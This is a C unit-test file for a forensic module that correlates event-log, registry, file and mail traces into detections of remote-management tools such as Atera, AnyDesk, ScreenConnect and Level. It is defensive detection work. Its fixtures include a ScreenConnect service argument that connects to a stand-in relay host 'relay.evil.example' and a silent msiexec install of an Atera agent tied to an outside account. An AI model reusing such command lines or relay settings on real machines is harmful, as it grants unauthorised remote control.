/* SPDX-License-Identifier: Apache-2.0 */
/* remote_tools.c: one hit a tool, whatever order its traces come in; what counts as a trace, and what does not. */
#include "correlate_harness.h"
#include "correlate/remote_tools.h"

static char *hits(const char *const *line, size_t lines, bool backwards) { return hits_of(NULL, line, lines, backwards); }

#define HITS(lines) hits(lines, sizeof lines / sizeof *lines, false)

static void assert_holds(const char *text, const char *part)
{
	if (!strstr(text, part))
		fail_msg("no %s in %s", part, text);
}

static const char *const chain[] = {
	"{\"type\":\"node\",\"kind\":\"file\",\"locator\":\"a.mbox::mbox:/0::attach:2::zip:/AteraAgentSetup.msi\",\"name\":\"AteraAgentSetup.msi\",\"path\":\"/AteraAgentSetup.msi\",\"crtime\":\"2001-01-01T00:00:00.000000000Z\"}",
	"{\"time\":\"2024-03-05T10:20:00.000000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Creation Time\",\"kind\":\"log_event\",\"locator\":\"d.img::ntfs:/A.evtx\",\"message\":\"product installed (event 1033): AteraAgent\",\"artifact\":\"win.evtx\",\"user\":\"S-1-5-21-1-2-3-1001\",\"data\":{\"provider\":\"MsiInstaller\",\"event_id\":1033,\"EventData\":{\"Data\":[\"AteraAgent\",\"1.8.7.2\",\"1033\",\"0\",\"Atera networks\"]}}}",
	"{\"time\":\"2024-03-05T10:20:02.000000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Creation Time\",\"kind\":\"log_event\",\"locator\":\"d.img::ntfs:/S.evtx\",\"message\":\"service installed (event 7045)\",\"artifact\":\"win.evtx\",\"user\":\"LocalSystem\",\"data\":{\"provider\":\"Service Control Manager\",\"event_id\":7045,\"user_sid\":\"S-1-5-18\",\"EventData\":{\"ServiceName\":\"AteraAgent\",\"ImagePath\":\"\\\"C:\\\\Program Files\\\\ATERA Networks\\\\AteraAgent\\\\AteraAgent.exe\\\"\",\"AccountName\":\"LocalSystem\"}}}",
	"{\"time\":\"2024-03-05T10:20:03.000000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Content Modification Time\",\"kind\":\"remote_management_agent\",\"locator\":\"d.img::ntfs:/SOFTWARE\",\"message\":\"remote-management agent\",\"path\":\"ATERA Networks\\\\AlphaAgent\",\"artifact\":\"reg.rmm.atera\",\"data\":{\"hive\":\"SOFTWARE\",\"IntegratorLogin\":\"someone@gmail.com\",\"AccountId\":\"0013z00002abcd\"}}",
	"{\"time\":\"2024-03-05T10:20:02.500000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Content Modification Time\",\"kind\":\"service_driver\",\"locator\":\"d.img::ntfs:/SYSTEM\",\"message\":\"service/driver: AteraAgent\",\"path\":\"ControlSet001\\\\Services\\\\AteraAgent\",\"artifact\":\"reg.services\",\"data\":{\"hive\":\"SYSTEM\",\"ObjectName\":\"LocalSystem\"}}",
	"{\"type\":\"node\",\"kind\":\"file\",\"locator\":\"d.img::ntfs:/Program%20Files/ATERA%20Networks/AteraAgent/AteraAgent.exe\",\"name\":\"AteraAgent.exe\",\"path\":\"/Program Files/ATERA Networks/AteraAgent/AteraAgent.exe\",\"crtime\":\"2024-03-05T10:20:01.000000000Z\"}",
	"{\"time\":\"2024-03-05T10:19:00.000000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Creation Time\",\"kind\":\"log_event\",\"locator\":\"d.img::ntfs:/Sec.evtx\",\"message\":\"process created (event 4688)\",\"artifact\":\"win.evtx\",\"data\":{\"provider\":\"Microsoft-Windows-Security-Auditing\",\"event_id\":4688,\"EventData\":{\"NewProcessName\":\"C:\\\\Windows\\\\System32\\\\msiexec.exe\",\"CommandLine\":\"msiexec /i C:\\\\Users\\\\ann\\\\Downloads\\\\AteraAgentSetup.msi IntegratorLogin=someone%40gmail.com CompanyId=1\"}}}",
};

static void remote_tools_gather_one_hit_from_mail_to_service(void **state)
{
	(void)state;
	char *out = HITS(chain);
	assert_non_null(strstr(out, "\"rule\":\"REMOTE_TOOL_ATERA_AGENT\""));
	assert_null(strstr(strchr(out, '\n') + 1, "\"rule\""));         /* one */
	assert_holds(out, "\"tenant\":[\"AccountId=0013z00002abcd\",\"CompanyId=1\",\"IntegratorLogin=someone@gmail.com\"]");
	assert_holds(out, "\"mail\":[\"a.mbox::mbox:/0::attach:2::zip:/AteraAgentSetup.msi\"]");
	assert_holds(out, "\"first\":\"2024-03-05T10:19:00.000000000Z\"");
	assert_holds(out, "\"runs_as\":[\"LocalSystem\"]");
	assert_holds(out, "S-1-5-21-1-2-3-1001");
	assert_holds(out, "\"profiles\":[\"ann\"]");
	assert_holds(out, "\"score\":85");
	assert_holds(out, "\"locator\":\"d.img::ntfs:/S.evtx\"");         /* the service's first trace */
	free(out);
}

static void remote_tools_do_not_depend_on_order(void **state)
{
	(void)state;
	char *forward = HITS(chain), *backward = hits(chain, sizeof chain / sizeof *chain, true);
	assert_string_equal(forward, backward);
	free(forward);
	free(backward);
}

static void remote_tools_are_bounded_and_keep_the_earliest(void **state)
{
	(void)state;
	enum { MANY = 500 };
	char *line[MANY];
	for (int i = 0; i < MANY; i++)
		if (asprintf(&line[i], "{\"type\":\"node\",\"kind\":\"file\",\"locator\":\"d::ntfs:/%04d/AnyDesk.exe\",\"name\":\"AnyDesk.exe\",\"path\":\"/%04d/AnyDesk.exe\",\"crtime\":\"2024-01-01T%02d:%02d:00.000000000Z\"}", i, i, (i * 7 % MANY) / 60, (i * 7 % MANY) % 60) < 0)
			abort();
	char *forward = hits((const char *const *)line, MANY, false), *backward = hits((const char *const *)line, MANY, true);
	assert_string_equal(forward, backward);
	assert_holds(forward, "\"traces\":{\"file\":500}");
	assert_holds(forward, "\"first\":\"2024-01-01T00:00:00.000000000Z\"");
	for (int i = 0; i < MANY; i++)
		free(line[i]);
	free(forward);
	free(backward);
}

static void remote_tools_shared_names_count_in_the_tools_folder_only(void **state)
{
	(void)state;
	static const char *const elsewhere[] = { "{\"type\":\"node\",\"kind\":\"file\",\"locator\":\"d::ntfs:/Games/level.exe\",\"name\":\"level.exe\",\"path\":\"/Games/Level/level.exe\"}",
		"{\"type\":\"node\",\"kind\":\"directory\",\"locator\":\"d::ntfs:/Games/Level\",\"name\":\"Level\",\"path\":\"/Games/Level\"}" };
	static const char *const there[] = { "{\"type\":\"node\",\"kind\":\"file\",\"locator\":\"d::ntfs:/l\",\"name\":\"level.exe\",\"path\":\"/Program Files/Level/level.exe\"}" };
	char *out = HITS(elsewhere);
	assert_string_equal(out, "");
	free(out);
	out = HITS(there);
	assert_holds(out, "REMOTE_TOOL_LEVEL\"");
	free(out);
}

static void remote_tools_in_a_package_are_no_files_of_the_disk(void **state)
{
	(void)state;
	static const char *const lines[] = { "{\"type\":\"node\",\"kind\":\"member\",\"locator\":\"d::ntfs:/setup.msi::ole:/AnyDesk.exe\",\"name\":\"AnyDesk.exe\",\"path\":\"/AnyDesk.exe\",\"crtime\":\"2024-01-01T00:00:00.000000000Z\"}" };
	char *out = HITS(lines);
	assert_holds(out, "\"traces\":{\"installer\":1}");
	assert_null(strstr(out, "\"first\""));
	free(out);
}

static void remote_tools_link_alone_is_no_hit(void **state)
{
	(void)state;
	static const char *const link[] = { "{\"type\":\"message\",\"locator\":\"a.mbox::mbox:/0\",\"subject\":\"offer\",\"urls\":[\"https://download.anydesk.com/AnyDesk.exe\"]}" };
	char *out = HITS(link);
	assert_string_equal(out, "");
	free(out);
}

static void remote_tools_tenant_of_a_service_argument(void **state)
{
	(void)state;
	static const char *const lines[] = {
		"{\"time\":\"2024-03-05T10:20:02.500000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Content Modification Time\",\"kind\":\"service_driver\",\"locator\":\"d::ntfs:/SYSTEM\",\"message\":\"service\",\"path\":\"ControlSet001\\\\Services\\\\ScreenConnect Client (0123456789abcdef)\",\"artifact\":\"reg.services\",\"data\":{\"ImagePath\":\"\\\"C:\\\\Program Files (x86)\\\\ScreenConnect Client (0123456789abcdef)\\\\ScreenConnect.ClientService.exe\\\" \\\"?e=Access&y=Guest&h=relay.evil.example&p=8041&s=1&k=BgIAAA\\\"\"}}",
		"{\"time\":\"2024-03-05T10:20:02.500000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"Content Modification Time\",\"kind\":\"service_driver\",\"locator\":\"d::ntfs:/SYSTEM\",\"message\":\"service\",\"path\":\"ControlSet001\\\\Services\\\\Level\",\"artifact\":\"reg.services\",\"data\":{\"ImagePath\":\"\\\"C:\\\\Program Files\\\\Level\\\\level.exe\\\" --key abcDEF --action=run\"}}",
	};
	char *out = HITS(lines);
	assert_holds(out, "\"tenant\":[\"h=relay.evil.example\",\"k=BgIAAA\"]");
	assert_holds(out, "\"tenant\":[\"--key=abcDEF\"]");
	free(out);
}

/* Nothing in a table of names may match nothing at all. */
static void remote_tools_every_program_and_service_is_found(void **state)
{
	(void)state;
	for (const struct remote_tool *t = remote_tools; t->name; t++)
		for (const char *at = t->services; *at;) {
			size_t n = strcspn(at, ";");
			char *line, *name = memory_copy(at, n);
			for (char *c = name; *c; c++)
				if (*c == '*')
					*c = 'x';
			if (asprintf(&line, "{\"time\":\"2024-03-05T10:20:02.000000000Z\",\"type\":\"event\",\"precision\":\"s\",\"timestamp_desc\":\"x\",\"kind\":\"service_driver\",\"locator\":\"d\",\"message\":\"m\",\"path\":\"ControlSet001\\\\Services\\\\%s\",\"artifact\":\"reg.services\"}", name) < 0)
				abort();
			const char *lines[] = { line };
			char *out = HITS(lines), *family;
			if (asprintf(&family, "\"family\":\"%s\"", t->name) < 0)
				abort();
			assert_holds(out, family);
			free(out);
			free(line);
			free(name);
			free(family);
			at += n + (at[n] != 0);
		}
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(remote_tools_gather_one_hit_from_mail_to_service), cmocka_unit_test(remote_tools_do_not_depend_on_order), cmocka_unit_test(remote_tools_are_bounded_and_keep_the_earliest),
		cmocka_unit_test(remote_tools_shared_names_count_in_the_tools_folder_only), cmocka_unit_test(remote_tools_in_a_package_are_no_files_of_the_disk), cmocka_unit_test(remote_tools_link_alone_is_no_hit), cmocka_unit_test(remote_tools_tenant_of_a_service_argument),
		cmocka_unit_test(remote_tools_every_program_and_service_is_found),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
